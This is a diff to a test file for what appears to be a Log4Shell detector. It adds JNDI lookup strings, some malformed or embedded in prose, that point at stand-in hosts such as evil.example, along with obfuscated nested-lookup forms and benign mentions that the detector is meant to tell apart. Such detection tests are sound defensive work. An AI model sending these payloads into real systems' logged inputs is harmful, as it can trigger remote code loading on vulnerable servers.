@@ -8,6 +8,11 @@ specifyFamily("jndi", {
       "${jndi:dns://evil.example}",
       "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
       "\\u0024{jndi:ldap://x.example}",
+      "${jndi: ldap://evil.example/a}",
+      "Was it ${jndi:ldap://evil.example/a} that you saw?",
+      "${jndi:ldap:/evil.example/a}",
+      "${jndi:ldap://",
+      "The jndi lookup of log4j, as in jndi:ldap://evil.example/a",
     ],
     "letters by way of other look-ups": [
       "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}",
@@ -43,6 +48,13 @@ specifyFamily("jndi", {
     "look-ups that are talked about": [
       "`${jndi:...}`",
       "look-ups such as ${jndi:ldap://…} or ${jndi:rmi://...}",
+      "${jndi:ldap} was the log4j thing, right?",
+      "Was it ${jndi:rmi} or ${jndi:dns} that the scanner used?",
+      "Block everything that starts with ${jndi:ldap or ${jndi:rmi, please.",
+      'Our filter looks for "${jndi:" and for "${jndi:ldap:" in headers.',
+      "The string `${jndi:` in a user agent means a log4shell probe.",
+      "${jndi: was in every access log of that winter.",
+      "<Property name='ctx'>${jndi:logging/context-name}</Property>",
     ],
     "templates and single look-ups": [
       "Hello ${firstName}, your order ${orderId} is ready.",
